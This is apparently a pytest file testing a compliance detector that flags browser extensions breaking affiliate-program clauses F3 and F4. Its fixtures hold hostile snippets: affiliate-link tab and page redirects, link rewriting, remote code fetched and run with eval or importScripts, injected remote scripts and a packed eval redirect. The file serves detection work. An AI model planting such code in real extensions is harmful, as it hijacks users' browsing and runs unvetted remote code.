# Scripts are data, as long as they come.
# ruff: noqa: E501
"""Extensions that break F3 or F4 are found from the day of the clause, however they hide it."""

from datetime import datetime

import pytest

from compliance.detectors.finding import Verdict
from tests.compliance.detectors.extension_packages import check, extension, steps
from tests.compliance.detectors.planted_extensions import (
    CLICK,
    HIDDEN_HOST,
    HIDDEN_LINK,
    PLANTED,
    Planted,
)
from tests.compliance.detectors.planted_extensions_more import MORE

ALL = PLANTED | MORE
LAST_MOMENT = {"F3": "2020-06-07T23:59:59.999999+03:00", "F4": "2020-07-05T23:59:59.999999+03:00"}
FIRST_MOMENT = {
    "F3": "2020-06-08T00:00:00+03:00",
    "F4": "2020-07-06T00:00:00+03:00",
    "F35": "2018-10-10T00:00:00+03:00",  # No date is known: it holds always.
}
DATED = {name: planted for name, planted in ALL.items() if planted.rule in LAST_MOMENT}
# Its script element is already forbidden by F3, whatever it leads to.
EARLIER = {"script element"}


def moment(text: str) -> datetime:
    return datetime.fromisoformat(text)


@pytest.mark.parametrize("version", [2, 3])
@pytest.mark.parametrize("planted", ALL.values(), ids=ALL.keys())
def test_a_planted_extension_is_a_violation_from_the_first_moment_of_its_clause(planted, version):
    files = planted.as_files(version)
    report = check(files, moment(FIRST_MOMENT[planted.rule]))
    assert report.verdict is Verdict.VIOLATION, report.findings
    first = next(finding for finding in report.findings if finding.rule == planted.rule)
    assert first.detail["file"] in files
    assert 1 <= first.detail["line"] <= str(files[first.detail["file"]]).count("\n") + 1
    assert first.rule in first.sentence
    assert first.detail["file"] in first.sentence


@pytest.mark.parametrize("version", [2, 3])
@pytest.mark.parametrize("name", sorted(DATED.keys() - EARLIER))
def test_before_that_moment_it_was_allowed_and_says_from_when_it_is_not(name, version):
    planted = DATED[name]
    report = check(planted.as_files(version), moment(LAST_MOMENT[planted.rule]))
    assert report.verdict is not Verdict.VIOLATION, report.findings
    waiting = [finding for finding in report.findings if finding.rule == planted.rule]
    assert {finding.detail["forbidden_from"] for finding in waiting} == {FIRST_MOMENT[planted.rule]}
    assert all("was allowed" in finding.sentence for finding in waiting)


def hiding(host: str, link: str) -> dict[str, Planted]:
    everywhere = ("<all_urls>",)
    return {
        "asks and alters": Planted(
            "F3",
            matches=everywhere,
            content=f"const h = {host}; if (location.host.includes(h)) document.body.append('x');",
        ),
        "leaves and alters": Planted(
            "F3",
            matches=everywhere,
            content=f"(() => {{ if (!location.hostname.includes({host})) return; document.body.append(1); }})()",
        ),
        "opens a tab": Planted(
            "F3",
            background="chrome.tabs.onUpdated.addListener((i, c, t) => {"
            f" if (t.url.includes({host})) chrome.tabs.create({{ url: 'a.html' }}); }});",
        ),
        "leads a tab away": Planted(
            "F4",
            background=f"var H = {host}, L = {link}; chrome.tabs.onUpdated.addListener((i, c, t) => {{"
            " if (~t.url.indexOf(H)) chrome.tabs.update(i, { url: L + t.url }); });",
        ),
        "answers a request": Planted(
            "F4",
            background=f"chrome.webRequest.onBeforeRequest.addListener(function (d) {{ if (d.url.indexOf({host}) < 0) return;"
            f" return {{ redirectUrl: {link} + escape(d.url) }}; }}, {{ urls: ['*://*/*'] }}, ['blocking']);",
        ),
        "leads the page away": Planted(
            "F4", content=f"var L = {link}; location.replace(L + location.href);"
        ),
        "rewrites links": Planted(
            "F4",
            content=f"var L = {link}; [].forEach.call(document.links, function (a) {{ a.href = L + a.href; }});",
        ),
    }


@pytest.mark.parametrize("host", HIDDEN_HOST.values(), ids=HIDDEN_HOST.keys())
@pytest.mark.parametrize("link", HIDDEN_LINK.values(), ids=HIDDEN_LINK.keys())
def test_hidden_hosts_and_links_are_read(host, link):
    for name, planted in hiding(host, link).items():
        report = check(planted.as_files(3))
        assert report.verdict is Verdict.VIOLATION, name
        assert planted.rule in {finding.rule for finding in report.findings}, name


ON_ARRIVAL = (
    "chrome.tabs.onUpdated.addListener((id, c, tab) => { if (/aliexpress/.test(tab.url)) %s });"
)
FOR_A_PERSON = {
    "own site": (
        extension(
            3,
            background=ON_ARRIVAL
            % "chrome.tabs.update(id, { url: 'https://cashback.example/go' });",
        ),
        ("F4", "leads_to_own_site"),
    ),
    "own site by a rule": (
        extension(
            3,
            background="chrome.declarativeNetRequest.updateDynamicRules({ addRules: [{ id: 1, action: { type: 'redirect',"
            " redirect: { url: 'https://cashback.example/' } }, condition: { urlFilter: '||aliexpress.com' } }] });",
        ),
        ("F4", "leads_to_own_site"),
    ),
    "page of the extension in the merchant's place": (
        extension(
            3,
            extra={"declarative_net_request": {"rule_resources": [{"path": "r.json"}]}},
            files={
                "r.json": '[{"id": 1, "action": {"type": "redirect", "redirect": {"extensionPath": "/x.html"}},'
                ' "condition": {"urlFilter": "||aliexpress.com^", "resourceTypes": ["main_frame"]}}]'
            },
        ),
        ("F4", "leads_somewhere"),
    ),
    "address from a server": (
        extension(
            3, content="fetch('/x').then((r) => r.json()).then((d) => { location.href = d.to; });"
        ),
        ("F4", "leads_somewhere"),
    ),
    "look alone": (
        extension(2, content="document.querySelector('.ad').style.display = 'none';"),
        ("F3", "restyles_page"),
    ),
    "own panel": (
        extension(3, background=ON_ARRIVAL % "chrome.action.openPopup();"),
        ("F3", "opens_icon_popup"),
    ),
    "code from a server": (
        extension(
            2,
            content="fetch('https://x.example/a').then((r) => r.text()).then((t) => eval(t + atob('Oy8v')));",
        ),
        ("F3", "hidden_code"),
    ),
    "a reply that is run": (
        extension(2, content="fetch('https://x.example/a').then((r) => r.text()).then(eval);"),
        ("F3", "hidden_code"),
    ),
    "a reply that is run by name": (
        extension(
            3,
            background="fetch('https://x.example/a').then((r) => r.text()).then((t) => eval(t));",
        ),
        ("F3", "hidden_code"),
    ),
    "background's own script from a server": (
        extension(3, background="importScripts('https://x.example/a.js');"),
        ("F3", "remote_code"),
    ),
    "made-up names": (
        extension(
            2, background="var _0x1a2b=1,_0x2c3d=2,_0x3e4f=3,_0x4a5b=_0x1a2b(_0x2c3d,_0x3e4f);"
        ),
        ("F3", "hidden_code"),
    ),
    "script from a server": (
        extension(
            2,
            matches=["<all_urls>"],
            content="const s = document.createElement('script'); s.src = 'https://x.example/a.js'; document.head.append(s);",
        ),
        ("F3", "remote_code"),
    ),
}


@pytest.mark.parametrize(("files", "step"), FOR_A_PERSON.values(), ids=FOR_A_PERSON.keys())
def test_what_only_a_person_can_tell_is_for_review(files, step):
    report = check(files)
    assert report.verdict is Verdict.REVIEW, report.findings
    assert step in steps(report)
    assert check(files, moment("2019-01-01T00:00:00+00:00")).verdict is Verdict.CLEAR


def test_a_packed_program_is_unpacked_and_judged():
    packer = (
        "eval(function(p,a,c,k,e,d){e=function(c){return c};while(c--){if(k[c]){p=p.replace(new RegExp("
        "'\\\\b'+e(c)+'\\\\b','g'),k[c])}}return p}('0.1=\"2://3.4.5/6\"',7,7,"
        "'location|href|https|s|click.aliexpress|com|e'.split('|'),0,{}))"
    )
    assert ("F4", "redirects") in steps(check(extension(2, content=packer)))


def test_the_sentence_says_what_where_which_clause_and_what_to_do():
    report = check(extension(3, content=f"\n\nlocation.href = '{CLICK}';"))
    (finding,) = report.findings
    assert finding.sentence == (
        "content.js, line 3: users on the merchant's site are led to the affiliate link "
        f"{CLICK}. F4 forbids extensions to redirect to affiliate links there: take the redirect out."
    )


def test_one_thing_done_a_thousand_times_is_told_twenty_times():
    report = check(extension(3, content="document.body.append('x');\n" * 1000))
    assert len(report.findings) == 20
